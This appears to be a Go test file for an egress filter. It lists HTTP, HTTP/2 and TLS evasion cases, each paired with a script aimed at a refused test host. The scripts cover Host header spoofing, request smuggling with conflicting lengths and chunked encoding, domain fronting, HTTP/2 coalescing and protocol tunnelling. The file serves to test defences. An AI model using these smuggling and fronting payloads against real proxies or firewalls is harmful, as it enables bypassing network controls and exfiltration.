package egress

// What plain HTTP says about its host, and where a request ends.
var httpRows = []evasion{
	{id: "host-other", attack: "a Host that names a refused host, over a connection to an allowed one", in: listed, script: `#!
curl -s -m 60 -H 'Host: evil.atoll.test' http://raw.atoll.test/
timeout 60 node -e 'require("http").get({host: "raw.atoll.test", headers: {Host: "evil.atoll.test"}}).on("error", () => {}).on("response", (r) => r.resume())'
curl -s -m 60 http://raw.atoll.test/fine`, arrives: []string{"GET /fine"}},
	{id: "host-absolute", attack: "a refused host in the request's target", in: listed, script: `
for target in ("http://evil.atoll.test/", "HTTP://EVIL.atoll.test/", "http://raw.atoll.test@evil.atoll.test/", "http://evil.atoll.test:80/", "//evil.atoll.test/", "https://evil.atoll.test/"):
    talk(RAW, 80, http("GET " + target + " HTTP/1.1", "Host: raw.atoll.test" if target[0] != "/" else "Host: evil.atoll.test"))`},
	{id: "host-connect", attack: "an allowed host used as a proxy, with CONNECT", in: listed, script: `#!
curl -s -m 60 -p -x http://raw.atoll.test:80 https://evil.atoll.test/
curl -s -m 60 -x http://raw.atoll.test:80 http://evil.atoll.test/`},
	{id: "host-second", attack: "a refused Host in the second request of a connection", in: listed, script: `
s = tcp(RAW, 80)
say(s, http("GET /first HTTP/1.1", "Host: raw.atoll.test"))
print(hear(s))
say(s, http("GET / HTTP/1.1", "Host: evil.atoll.test"))
print(hear(s))`, arrives: []string{"GET /first"}},
	{id: "host-pipelined", attack: "a refused Host in a request sent before the answer to the first", in: listed, script: `
talk(RAW, 80, http("GET /first HTTP/1.1", "Host: raw.atoll.test") + http("GET / HTTP/1.1", "Host: evil.atoll.test"))`,
		arrives: []string{"GET /first"}},
	{id: "host-duplicate", attack: "two Hosts, of which servers take the first or the last", in: listed, script: `
for hosts in (("raw", "evil"), ("evil", "raw")):
    talk(RAW, 80, http("GET / HTTP/1.1", *("Host: " + h + ".atoll.test" for h in hosts)))
talk(RAW, 80, http("GET / HTTP/1.1", "Host: raw.atoll.test, evil.atoll.test"))`},
	{id: "host-folded", attack: "a Host spread over lines, or a line that only looks folded", in: listed, script: `
talk(RAW, 80, http("GET / HTTP/1.1", "Host: raw.atoll.test", " evil.atoll.test"))
talk(RAW, 80, http("GET / HTTP/1.1", "Host:", "\tevil.atoll.test"))
talk(RAW, 80, http("GET / HTTP/1.1", " Host: evil.atoll.test", "Host: raw.atoll.test"))`},
	{id: "host-garbled", attack: "a Host with spaces, a user, a zero byte or a strange port", in: listed, script: `
for line in ("Host : evil.atoll.test", "Host: raw.atoll.test@evil.atoll.test", "Host: evil.atoll.test:80", "Host:\0evil.atoll.test",
             "Host: raw.atoll.test\0evil.atoll.test", "Host: raw.atoll.test:80@evil.atoll.test", "Host: raw.atoll.test#evil"):
    talk(RAW, 80, http("GET / HTTP/1.1", line))`},
	{id: "host-forwarded", attack: "a connection that pretends that a proxy sends it (PROXY protocol)", in: listed, script: `
talk(RAW, 80, b"PROXY TCP4 10.0.0.1 10.0.0.2 1 80\r\n" + http("GET /evil HTTP/1.1", "Host: raw.atoll.test"))
talk(RAW, 443, b"PROXY TCP4 10.0.0.1 10.0.0.2 1 443\r\n" + records(hello(RAW)))
talk(RAW, 443, b"\r\n\r\n\0\r\nQUIT\n\x21\x11\0\x0c" + bytes(12) + records(hello(RAW)))
talk(RAW, 22, b"PROXY UNKNOWN\r\nevil\r\n")`},
	{id: "method-odd", attack: "methods in lower case, unknown ones, empty lines before them", in: listed, script: `
for line in ("get / HTTP/1.1", "PROPFIND / HTTP/1.1", "X-EVIL / HTTP/1.1", "\r\n\r\nGET / HTTP/1.1", "GET  /  HTTP/1.1", "GET / http/1.1"):
    talk(RAW, 80, http(line, "Host: evil.atoll.test"))`},
	{id: "method-long", attack: "a method of many letters, sent without what follows it", in: listed, script: `
for size, pause in ((20, 1.3), (33, 0.05), (40, 1.3), (400, 0.05)):
    talk(RAW, 80, b"X" * size, http(" / HTTP/1.1", "Host: evil.atoll.test"), pause=pause)`},
	{id: "line-lenient", attack: "tabs and other space in a request line, which lenient servers take (RFC 9112, section 3)", in: listed, script: `
for line in (" GET / HTTP/1.1", "\tGET / HTTP/1.1", "GET\t/\tHTTP/1.1", "PROPFIND\t/ HTTP/1.1", "PROPFIND /\tHTTP/1.1", "PROPFIND / HTTP/1.1\t", "PROPFIND\x0b/\x0cHTTP/1.1", "GET\r/\rHTTP/1.1"):
    talk(RAW, 80, http(line, "Host: evil.atoll.test"))`},
	{id: "http09", attack: "a request of HTTP/0.9, which has no head", in: listed,
		script: `talk(RAW, 80, b"GET /evil\r\n"), talk(RAW, 80, b"GET http://evil.atoll.test/\n")`},
	{id: "line-stalled", attack: "a request line that stops in the middle until the reader gives up", in: listed, script: `
for cut in (1, 2, 5):
    r = http("GET / HTTP/1.1", "Host: evil.atoll.test")
    talk(RAW, 80, r[:cut], r[cut:], pause=1.3)
r = http("PROPFIND / HTTP/1.1", "Host: evil.atoll.test")
talk(RAW, 80, r[:8], r[8:], pause=1.3)
talk(RAW, 9, b"quiet", b" words\n", pause=1.3)`, arrives: []string{"quiet words"}},
	{id: "bare-lf", attack: "line feeds, carriage returns and spaces where only some servers see a line's end", in: listed, script: `
talk(RAW, 80, b"GET / HTTP/1.1\nHost: evil.atoll.test\n\n")
talk(RAW, 80, b"GET / HTTP/1.1\r\nHost: raw.atoll.test\r\nX: y\rHost: evil.atoll.test\r\n\r\n")
talk(RAW, 80, b"GET / HTTP/1.1\r\nHost: raw.atoll.test\r\nX: y\n\nGET / HTTP/1.1\nHost: evil.atoll.test\r\n\r\n")`},
	{id: "target-split", attack: "bytes in the target that begin another request", in: listed, script: `
talk(RAW, 80, b"GET /\rHost: evil.atoll.test HTTP/1.1\r\nHost: raw.atoll.test\r\n\r\n")
talk(RAW, 80, b"GET / HTTP/1.1\nHost: evil.atoll.test\nX: HTTP/1.1\r\nHost: raw.atoll.test\r\n\r\n")
talk(RAW, 80, b"GET /\0evil HTTP/1.1\r\nHost: raw.atoll.test\r\n\r\n")`},
	{id: "smuggle-length", attack: "a length and chunks in one request, so that two readers end it in two places", in: listed, script: `
hidden = http("GET / HTTP/1.1", "Host: evil.atoll.test")
post = ("POST /outer HTTP/1.1", "Host: raw.atoll.test")
talk(RAW, 80, http(*post, "Content-Length: " + str(len(hidden) + 5), "Transfer-Encoding: chunked", body=b"0\r\n\r\n" + hidden))
chunk = b"%x\r\n" % len(hidden) + hidden + b"\r\n0\r\n\r\n"
talk(RAW, 80, http(*post, "Content-Length: 4", "Transfer-Encoding: chunked", body=chunk))
talk(RAW, 80, http(*post, "Transfer-Encoding: chunked", "Content-Length: 4", body=chunk))`,
		never: `(?i)content-length:.*transfer-encoding:|transfer-encoding:.*content-length:|POST /outer.*\\r\\n\\r\\n0\\r\\n\\r\\nGET`},
	{id: "smuggle-lengths", attack: "two lengths, or one that is no number", in: listed, script: `
hidden = http("GET / HTTP/1.1", "Host: evil.atoll.test")
post = ("POST / HTTP/1.1", "Host: raw.atoll.test")
for lengths in (("0", str(len(hidden))), (str(len(hidden)), "0"), ("+0",), ("0x0",), ("-1",), ("0, " + str(len(hidden)),), (" 0 0",)):
    talk(RAW, 80, http(*post, *("Content-Length: " + l for l in lengths), body=hidden))`},
	{id: "smuggle-coding", attack: "a Transfer-Encoding that only some servers take for chunked", in: listed, script: `
hidden = http("GET / HTTP/1.1", "Host: evil.atoll.test")
post = ("POST / HTTP/1.1", "Host: raw.atoll.test")
for line in ("Transfer-Encoding: xchunked", "Transfer-Encoding : chunked", "Transfer-Encoding:\x0bchunked", "Transfer-Encoding: chunked, identity", "X: y\nTransfer-Encoding: chunked", "Transfer-Encoding: identity"):
    talk(RAW, 80, http(*post, line, body=b"0\r\n\r\n" + hidden))`},
	{id: "smuggle-chunk", attack: "chunks whose size lines two readers read in two ways", in: listed, script: `
post = ("POST / HTTP/1.1", "Host: raw.atoll.test", "Transfer-Encoding: chunked")
hidden = http("GET / HTTP/1.1", "Host: evil.atoll.test")
for size in (b"0x0", b"-0", b"+0", b"0 0", b"g", b"fffffffffffffffff0", b"0;\n", b"00000000000000000000000000000000001"):
    talk(RAW, 80, http(*post, body=size + b"\r\n\r\n" + hidden))`,
		never: `(?i)host: evil`},
	{id: "upgrade-refused", attack: "an upgrade that the server refuses, and a refused Host behind it", in: listed, script: `
s = tcp(RAW, 80)
say(s, http("GET /first HTTP/1.1", "Host: raw.atoll.test", "Upgrade: websocket", "Connection: Upgrade", "Sec-WebSocket-Version: 13", "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA=="))
print(hear(s))
say(s, http("GET / HTTP/1.1", "Host: evil.atoll.test"))
print(hear(s))`, arrives: []string{"GET /first"}},
}

// HTTP/2 in clear.
var http2Rows = []evasion{
	{id: "h2c-authority", attack: "HTTP/2 in clear for a refused host", in: listed,
		script: `talk(RAW, 80, H2_START + h2(1, EVIL)), talk(RAW, 8080, H2_START, h2(1, EVIL), pause=0.1)`},
	{id: "h2c-second", attack: "HTTP/2 in clear: a second stream for a refused host on an allowed connection", in: listed, script: `
s = tcp(API, 80)
say(s, H2_START + h2(1, API, "/first") + h2(3, EVIL, "/second"))
print(hear(s, 200)[:300])`, arrives: []string{"api GET api.atoll.test/first HTTP/2.0"}, open: "GET evil.atoll.test/second"},
	{id: "h2c-host", attack: "HTTP/2 in clear: a host that contradicts the authority, or none of them", in: listed, script: `
talk(RAW, 80, H2_START + h2(1, RAW, "/", "http", ("host", EVIL)))
talk(RAW, 80, H2_START + h2(1, RAW, "/", "http", (":authority", EVIL)))
talk(RAW, 80, H2_START + h2(1, EVIL, "/", "http", ("host", RAW)))`},
	{id: "h2c-upgrade", attack: "HTTP/1 that turns to HTTP/2, and says the host only then", in: listed, script: `
talk(RAW, 80, http("GET /first HTTP/1.1", "Host: raw.atoll.test", "Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c", "HTTP2-Settings: AAMAAABk"), H2_START + h2(3, EVIL), pause=0.3)`},
	{id: "h2c-preface", attack: "HTTP/2 whose beginning comes in pieces", in: listed, script: `
p = H2_START + h2(1, EVIL)
talk(RAW, 80, p[:3], p[3:], pause=1.3)
talk(RAW, 80, p[:14], p[14:20], p[20:], pause=0.6)`},
}

// Inside of TLS, where it is opened.
var insideRows = []evasion{
	{id: "front-host", attack: "a Host inside of TLS that names another customer of the server (domain fronting)", in: strict, script: `#!
curl -sk -m 60 --http1.1 -H 'Host: tenant.atoll.test' https://api.atoll.test/
curl -sk -m 60 --http1.1 https://api.atoll.test/fine`, never: "tenant", open: "GET tenant", arrives: []string{"api GET api.atoll.test/fine"}},
	{id: "front-authority", attack: "an authority inside of TLS that names another customer of the server", in: strict, script: `#!
curl -sk -m 60 --http2 -H 'Host: tenant.atoll.test' https://api.atoll.test/`, never: "tenant", open: "GET tenant"},
	{id: "front-second", attack: "another customer's name in the second request of a connection", in: strict, script: `
s = tls(tcp(API, 443), API)
for path, host in (("/first", API), ("/second", TENANT)):
    say(s, http("GET " + path + " HTTP/1.1", "Host: " + host))
    print(hear(s)[:300])`, never: "tenant", open: "GET tenant.atoll.test/second", arrives: []string{"api GET api.atoll.test/first"}},
	{id: "coalescing", attack: "another name of the same certificate on an open HTTP/2 connection (coalescing)", in: strict, script: `#!
timeout 60 node -e '
const s = require("http2").connect("https://api.atoll.test", {rejectUnauthorized: false});
const get = (path, authority) => new Promise((done) => {
  const r = s.request({":path": path, ":authority": authority});
  r.on("response", (h) => console.log(path, h[":status"])).on("close", done).on("error", () => {}).resume();
});
s.on("error", (e) => console.log(e.message));
get("/first", "api.atoll.test").then(() => get("/second", "tenant.atoll.test")).then(() => s.close());'`,
		never: "tenant", open: "GET tenant.atoll.test/second", arrives: []string{"api GET api.atoll.test/first"}},
	{id: "inside-opaque", attack: "something that is not HTTP inside of TLS", in: strict, script: `
s = tls(tcp(RAW, 443), RAW)
say(s, b"SSH-2.0-evil\r\n")
print(hear(s))`, open: "tls raw.atoll.test.*evil"},
	{id: "inside-after", attack: "an allowed TLS connection that goes on as something else after its end", in: strict, script: `
raw = tcp(RAW, 443)
s = tls(raw, RAW, suppress_ragged_eofs=True)
say(s, http("GET /first HTTP/1.1", "Host: raw.atoll.test"))
print(hear(s))
raw = socket.socket(fileno=s.detach())
raw.settimeout(WAIT)
try:
    raw.sendall(b"\x15\x03\x03\0\x02\x01\0" + records(hello(EVIL)) + http("GET / HTTP/1.1", "Host: evil.atoll.test"))
    print(hear(raw))
except OSError as e:
    print(e)`, arrives: []string{"GET /first"}},
	{id: "renegotiation", attack: "a second handshake inside of an open TLS connection", in: strict, script: `#!
(sleep 0.5; echo R; sleep 0.7; printf 'GET /evil HTTP/1.1\r\nHost: api.atoll.test\r\n\r\n'; sleep 0.5) |
  openssl s_client -tls1_2 -connect api.atoll.test:443 -servername api.atoll.test 2>&1 | grep -iE 'renegotiat|alert' | head -3`,
		prints: "(?i)renegotiat", blunt: "no server of the fake internet renegotiates"},
	{id: "opaque", attack: "a protocol that nobody reads, where everything must be readable", in: strict,
		script: `talk(RAW, 22, b"SSH-2.0-evil\r\n"), talk(RAW, 9, b"\x00\x01evil")`},
}
